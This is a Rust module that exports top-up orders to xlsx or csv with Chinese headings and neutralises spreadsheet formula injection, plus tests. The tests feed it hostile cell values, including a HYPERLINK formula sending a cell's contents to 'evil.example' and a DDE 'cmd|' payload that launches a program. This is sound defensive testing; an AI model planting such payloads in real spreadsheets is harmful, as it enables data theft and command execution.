//! Export of orders (a batch, or any filtered list) to xlsx or csv, with Chinese headings.
//!
//! Why these choices: Excel turns a long digit string into a float (`1.38123E+10`, and an 18-digit ID
//! or 户号 loses its last digits), so in xlsx the account and the ids are written as string cells with
//! the text format `@`. Money is written as exact yuan text (`98.50`, `1.065`), never through f64, so a
//! reconciliation reads back exactly what the book holds. csv is UTF-8 with a BOM so that Excel opens
//! Chinese text correctly.
//!
//! Formula injection: accounts, notes, provider order ids and provider error texts come from files,
//! people and the network. A csv cell starting with `=`, `+`, `-`, `@`, tab or carriage return is run
//! as a formula by Excel and LibreOffice (`=HYPERLINK(...)`, `=cmd|...`), so such a cell is written
//! as OWASP recommends: prefixed with a single quote and quoted ([`csv_field`]). One exception: a
//! plain number (`-1.5`, `+8613800138000`, digits with at most one decimal point and a leading
//! sign) cannot be a formula, and a reconciliation must read an amount or an account as the value it
//! is — prefixing it would turn `-1.000` into text. xlsx needs none of this: every cell is a typed
//! string cell, never a formula.

use super::ImportError;
use crate::book::{Book, Order, OrderFilter};
use rust_xlsxwriter::{Format, Workbook};
use std::io::Write;
use std::path::Path;

/// The headings, in order.
pub const HEADINGS: [&str; 11] = [
    "商户订单号",
    "供应商",
    "类型",
    "账号",
    "面值",
    "成本",
    "状态",
    "供应商订单号",
    "创建时间",
    "完成时间",
    "备注/错误",
];

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ExportFormat {
    Xlsx,
    Csv,
}

impl ExportFormat {
    /// From the file extension (`.xlsx` or `.csv`).
    pub fn from_path(path: &Path) -> Option<ExportFormat> {
        match path.extension()?.to_str()?.to_ascii_lowercase().as_str() {
            "xlsx" => Some(ExportFormat::Xlsx),
            "csv" => Some(ExportFormat::Csv),
            _ => None,
        }
    }
}

/// Local time `yyyy-MM-dd HH:mm:ss` of a millisecond timestamp.
pub fn format_time(ms: i64) -> String {
    topup_core::local_time::text(ms)
}

fn cells(o: &Order) -> [String; 11] {
    let remark = match (&o.note, &o.last_error) {
        (Some(n), Some(e)) => format!("{n} / {e}"),
        (Some(n), None) => n.clone(),
        (None, Some(e)) => e.clone(),
        (None, None) => String::new(),
    };
    [
        o.merchant_order_id.clone(),
        o.provider.label_zh().to_owned(),
        o.kind.label_zh().to_owned(),
        o.account.clone(),
        o.face.to_string(),
        o.cost.map(|c| c.to_string()).unwrap_or_default(),
        o.state.label_zh().to_owned(),
        o.provider_order_id.clone().unwrap_or_default(),
        format_time(o.created_at),
        o.finished_at.map(format_time).unwrap_or_default(),
        remark,
    ]
}

/// Every order matching `filter` (all pages, `offset`/`limit` ignored), oldest first.
pub fn matching_orders(book: &Book, filter: &OrderFilter) -> Result<Vec<Order>, ImportError> {
    let mut f = filter.clone();
    f.limit = 1000;
    f.offset = 0;
    let mut all = Vec::new();
    loop {
        let page = book.list_orders(&f)?;
        let n = page.orders.len();
        all.extend(page.orders);
        if n == 0 || all.len() as i64 >= page.total {
            break;
        }
        f.offset += n as i64;
    }
    all.reverse();
    Ok(all)
}

/// Writes the orders matching `filter` to `path`. Returns how many were written.
pub fn export_orders(
    book: &Book,
    filter: &OrderFilter,
    path: &Path,
    format: ExportFormat,
) -> Result<usize, ImportError> {
    let orders = matching_orders(book, filter)?;
    let rows: Vec<Vec<String>> = orders.iter().map(|o| cells(o).to_vec()).collect();
    let table =
        Table { sheet: "订单", headings: &HEADINGS, widths: &[24, 10, 6, 16, 10, 10, 10, 24, 20, 20, 30] };
    write_table(&table, &rows, path, format)?;
    Ok(orders.len())
}

/// A table to write: its sheet name (xlsx), headings and column widths.
pub struct Table<'a> {
    pub sheet: &'a str,
    pub headings: &'a [&'a str],
    pub widths: &'a [u16],
}

/// Writes `rows` under `table`'s headings to `path`, every cell as text (see the module docs): the one
/// writer of every table export (orders, a reconciliation's lines), through [`write_whole`].
pub fn write_table(
    table: &Table<'_>,
    rows: &[Vec<String>],
    path: &Path,
    format: ExportFormat,
) -> Result<(), ImportError> {
    write_whole(path, |part| match format {
        ExportFormat::Xlsx => write_xlsx(table, rows, part).map_err(|e| e.to_string()),
        ExportFormat::Csv => write_csv(table, rows, part).map_err(|e| e.to_string()),
    })
}

/// Writes a file through `write` (given the temporary path) and renames it over `path` only when
/// complete: a failed or interrupted export never leaves half a file, nor destroys an earlier export of
/// the same name. A missing folder is created (the command line's `--out` names any path). Every
/// export goes through here: [`write_table`], and the report's workbook (`crate::report`).
pub(crate) fn write_whole(
    path: &Path,
    write: impl FnOnce(&Path) -> Result<(), String>,
) -> Result<(), ImportError> {
    let failed = |err: &dyn std::fmt::Display| ImportError::Write {
        path: path.display().to_string(),
        message: crate::redact::text(&err.to_string()).into_owned(),
    };
    if let Some(dir) = path.parent().filter(|d| !d.as_os_str().is_empty()) {
        std::fs::create_dir_all(dir).map_err(|e| failed(&e))?;
    }
    let name = path.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
    let part = path.with_file_name(format!(".{name}.{}.part", std::process::id()));
    let written = write(&part)
        .map_err(|e| failed(&e))
        .and_then(|()| std::fs::rename(&part, path).map_err(|e| failed(&e)));
    if written.is_err() {
        let _ = std::fs::remove_file(&part);
    }
    written
}

fn write_xlsx(
    table: &Table<'_>,
    rows: &[Vec<String>],
    path: &Path,
) -> Result<(), rust_xlsxwriter::XlsxError> {
    let mut wb = Workbook::new();
    let sheet = wb.add_worksheet();
    sheet.set_name(table.sheet)?;
    let bold = Format::new().set_bold();
    let text = Format::new().set_num_format("@");
    for (c, h) in table.headings.iter().enumerate() {
        sheet.write_string_with_format(0, c as u16, *h, &bold)?;
    }
    for (c, width) in table.widths.iter().enumerate() {
        sheet.set_column_width(c as u16, *width)?;
    }
    for (i, cells) in rows.iter().enumerate() {
        let row = i as u32 + 1;
        for (c, value) in cells.iter().enumerate() {
            if value.is_empty() {
                continue;
            }
            sheet.write_string_with_format(row, c as u16, value, &text)?;
        }
    }
    sheet.set_freeze_panes(1, 0)?;
    wb.save(path)
}

/// A cell as csv: a possible formula neutralised (see the module docs), then quoted as csv requires.
fn csv_field(s: &str) -> String {
    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_plain_number(s);
    if formula {
        format!("\"'{}\"", s.replace('"', "\"\""))
    } else if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_owned()
    }
}

/// `[+-]digits[.digits]`: a number, never a formula.
fn is_plain_number(s: &str) -> bool {
    let unsigned = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (whole, fraction) = unsigned.split_once('.').unwrap_or((unsigned, "0"));
    let digits = |t: &str| !t.is_empty() && t.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && digits(fraction)
}

fn write_csv(table: &Table<'_>, rows: &[Vec<String>], path: &Path) -> Result<(), std::io::Error> {
    let file = std::fs::File::create(path)?;
    let mut w = std::io::BufWriter::new(file);
    w.write_all(b"\xEF\xBB\xBF")?;
    write!(w, "{}\r\n", table.headings.join(","))?;
    for cells in rows {
        let line: Vec<String> = cells.iter().map(|c| csv_field(c)).collect();
        w.write_all(line.join(",").as_bytes())?;
        w.write_all(b"\r\n")?;
    }
    w.into_inner().map_err(|e| e.into_error())?.sync_all()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::book::{NewOrder, OrderPatch, OrderState};
    use topup_core::{Li, ProductKind, ProviderId};

    /// An order whose text fields all came from outside: the import file, a person, a provider.
    fn hostile_book(dir: &Path) -> Book {
        let book = Book::open(&dir.join("orders.sqlite3")).unwrap();
        book.write(|tx| {
            let id = tx.insert_order(&NewOrder {
                merchant_order_id: "TD0000000000CSV01".into(),
                provider: ProviderId::Oper,
                kind: ProductKind::Game,
                product_id: None,
                account: r#"=HYPERLINK("http://evil.example/?x="&A1,"点这里")"#.into(),
                details: serde_json::json!({}),
                face: Li::from_yuan(10),
                batch_id: None,
                resubmit_of: None,
                fallback_of: None,
            })?;
            tx.transition(id, OrderState::Submitting, "提交 / submitting")?;
            tx.patch_order(
                id,
                OrderPatch {
                    provider_order_id: Some("@SUM(1+1)*cmd|' /C calc'!A0"),
                    note: Some("+1+1"),
                    last_error: Some("\t=1+1"),
                    ..OrderPatch::default()
                },
            )?;
            Ok(())
        })
        .unwrap();
        book
    }

    #[test]
    fn csv_cells_that_would_be_formulas_are_neutralised() {
        for (cell, written) in [
            ("=1+1", "\"'=1+1\""),
            ("+1+1", "\"'+1+1\""),
            ("-2+3", "\"'-2+3\""),
            ("@SUM(A1)", "\"'@SUM(A1)\""),
            ("\t=1", "\"'\t=1\""),
            ("\r=1", "\"'\r=1\""),
            (r#"=HYPERLINK("u","x")"#, r#""'=HYPERLINK(""u"",""x"")""#),
            // Numbers cannot be formulas and stay numbers; other text is as before.
            ("-1.000", "-1.000"),
            ("+8613800138000", "+8613800138000"),
            ("-15", "-15"),
            ("13800138000", "13800138000"),
            ("a,b", "\"a,b\""),
            ("1-1", "1-1"),
            ("-", "\"'-\""),
            ("-1.", "\"'-1.\""),
            ("--1", "\"'--1\""),
        ] {
            assert_eq!(csv_field(cell), written, "{cell:?}");
        }
    }

    #[test]
    fn an_exported_csv_holds_no_live_formula_and_the_xlsx_only_text_cells() {
        let dir = tempfile::tempdir().unwrap();
        let book = hostile_book(dir.path());
        let csv = dir.path().join("orders.csv");
        export_orders(&book, &OrderFilter::default(), &csv, ExportFormat::Csv).unwrap();
        let text = std::fs::read_to_string(&csv).unwrap();
        let row = text.lines().nth(1).unwrap();
        for cell in [r#""'=HYPERLINK(""http"#, r#""'@SUM(1+1)*cmd|"#, "\"'+1+1 / \t=1+1\""] {
            assert!(row.contains(cell), "{cell} in {row}");
        }
        // No cell of the row starts with a formula character once csv quoting is undone.
        let file = crate::import::SourceFile::open(&csv).unwrap();
        let sheet = file.read_sheet(None).unwrap();
        for c in &sheet.grid.cells[1] {
            let c = c.to_string();
            assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "{c:?}");
        }

        let xlsx = dir.path().join("orders.xlsx");
        export_orders(&book, &OrderFilter::default(), &xlsx, ExportFormat::Xlsx).unwrap();
        use calamine::Reader;
        let mut wb: calamine::Xlsx<_> = calamine::open_workbook(&xlsx).unwrap();
        let formulas = wb.worksheet_formula("订单").unwrap();
        assert!(formulas.used_cells().next().is_none(), "no formula cells in the xlsx");
        let range = wb.worksheet_range("订单").unwrap();
        let account = range.get_value((1, 3)).unwrap();
        assert_eq!(
            account,
            &calamine::Data::String(r#"=HYPERLINK("http://evil.example/?x="&A1,"点这里")"#.into())
        );
        for (_, _, cell) in range.used_cells() {
            assert!(matches!(cell, calamine::Data::String(_)), "a typed text cell: {cell:?}");
        }
    }

    #[test]
    fn an_export_creates_its_folder_and_leaves_no_partial_file() {
        let dir = tempfile::tempdir().unwrap();
        let book = hostile_book(dir.path());
        let filter = OrderFilter { limit: 100, ..OrderFilter::default() };
        for (name, format) in [("订单.csv", ExportFormat::Csv), ("订单.xlsx", ExportFormat::Xlsx)] {
            let out = dir.path().join("新文件夹").join("12月").join(name);
            assert_eq!(export_orders(&book, &filter, &out, format).unwrap(), 1, "{name}");
            assert!(std::fs::metadata(&out).unwrap().len() > 0, "{name}");
            // Exporting again over it replaces it whole.
            assert_eq!(export_orders(&book, &filter, &out, format).unwrap(), 1, "{name}");
        }
        let left: Vec<_> = std::fs::read_dir(dir.path().join("新文件夹").join("12月"))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        assert_eq!(left.len(), 2, "only the two exports, no temporary file: {left:?}");
    }

    #[test]
    fn an_export_that_cannot_be_written_says_so_and_leaves_nothing_behind() {
        let dir = tempfile::tempdir().unwrap();
        let book = hostile_book(dir.path());
        let filter = OrderFilter { limit: 100, ..OrderFilter::default() };
        // The destination is a folder holding a file: the finished export cannot take its place.
        let out = dir.path().join("exports.csv");
        std::fs::create_dir(&out).unwrap();
        std::fs::write(out.join("keep.txt"), "earlier work").unwrap();
        let err = export_orders(&book, &filter, &out, ExportFormat::Csv).unwrap_err();
        assert_eq!(err.code(), "write_error");
        let text = err.to_string();
        assert!(text.contains("无法写入文件") && text.contains("cannot write"), "{text}");
        assert_eq!(std::fs::read_to_string(out.join("keep.txt")).unwrap(), "earlier work");
        let parts = std::fs::read_dir(dir.path())
            .unwrap()
            .filter(|e| e.as_ref().unwrap().file_name().to_string_lossy().ends_with(".part"))
            .count();
        assert_eq!(parts, 0, "the temporary file is removed");
    }
}
